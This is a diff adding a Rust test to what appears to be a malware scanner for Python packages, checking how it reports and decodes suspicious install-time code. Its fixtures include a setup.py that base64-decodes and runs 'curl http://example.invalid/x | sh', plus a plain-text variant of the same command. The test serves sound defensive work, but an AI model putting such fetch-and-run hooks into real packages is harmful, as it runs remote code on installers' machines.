@@ -180,3 +180,66 @@ fn truncated_and_mangled_samples_never_panic() {
         let _ = pyvet::inspect::inspect(&contents, &Default::default());
     }
 }
+
+fn inspect_text(path_in_artifact: &str, text: &str) -> Vec<Finding> {
+    let filename = if path_in_artifact.starts_with("pkg-1.0/") {
+        "pkg-1.0.tar.gz"
+    } else {
+        "pkg-1.0-py3-none-any.whl"
+    };
+    let contents = ArchiveContents {
+        filename: filename.to_string(),
+        kind: ArtifactKind::from_filename(filename),
+        entries: vec![ArchiveEntry {
+            path: path_in_artifact.to_string(),
+            data: text.as_bytes().to_vec().into(),
+        }],
+        findings: Vec::new(),
+        metadata: None,
+    };
+    pyvet::inspect::inspect(&contents, &Default::default())
+}
+
+#[test]
+fn code_findings_say_which_token_matched_when_it_runs_and_what_was_decoded() {
+    use pyvet::finding::Runs;
+    // An install hook that decodes a command and runs it: the finding must name the call
+    // that matched, say it runs at install time, and carry the decoded command.
+    let setup = "import base64, os\nfrom setuptools import setup\n\
+                 os.system(base64.b64decode('Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaA==').decode())\n\
+                 setup(name='pkg')\n";
+    let findings = inspect_text("pkg-1.0/setup.py", setup);
+    let f = findings
+        .iter()
+        .filter(|f| f.severity >= Severity::High && f.location.line == Some(3))
+        .find(|f| f.matched.is_some())
+        .unwrap_or_else(|| panic!("no high finding with a matched token:\n{}", describe(&findings)));
+    let token = f.matched.as_deref().unwrap();
+    assert!(
+        f.evidence.as_deref().unwrap_or("").contains(token),
+        "matched token {token:?} is not in the evidence {:?}",
+        f.evidence
+    );
+    assert!(token.contains("system") || token.contains("b64decode"), "{token}");
+    assert_eq!(f.runs, Some(Runs::Install), "{}", describe(&findings));
+    assert!(
+        findings.iter().any(|f| f
+            .decoded
+            .as_deref()
+            .is_some_and(|d| d.contains("example.invalid/x | sh"))),
+        "no finding carries the decoded command:\n{}",
+        describe(&findings)
+    );
+
+    // The same call in a function body of a module runs only when called.
+    let module = "import os\ndef go():\n    os.system('curl http://example.invalid/x | sh')\n";
+    let findings = inspect_text("pkg/tool.py", module);
+    assert!(
+        findings
+            .iter()
+            .filter(|f| f.location.line == Some(3))
+            .all(|f| f.runs == Some(Runs::Call)),
+        "{}",
+        describe(&findings)
+    );
+}
